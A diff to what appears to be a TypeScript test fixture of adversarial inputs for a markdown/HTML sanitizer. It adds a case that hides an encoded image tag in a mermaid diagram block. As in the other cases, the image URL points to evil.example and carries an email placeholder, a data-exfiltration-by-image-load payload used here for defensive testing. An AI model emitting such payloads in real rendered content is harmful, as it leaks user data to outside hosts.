@@ -14,5 +14,9 @@ export const CASES: readonly Form[] = [
     text: '{"":"[]:","":"[x]: http&colon;evil.EMAIL_1\\n![][x]"}',
   },
   { id: 'class-among-names', text: '<code <x class="language-svg">evil.example/?EMAIL_1' },
+  {
+    id: 'class-that-is-drawn',
+    text: '<pre class="mermaid">A["&lt;img src=https#colon;#sol;#sol;evil.example/?EMAIL_1>"]</pre>',
+  },
   { id: 'class-of-code', text: '<code class="language-svg">evil.EMAIL_1' },
 ]
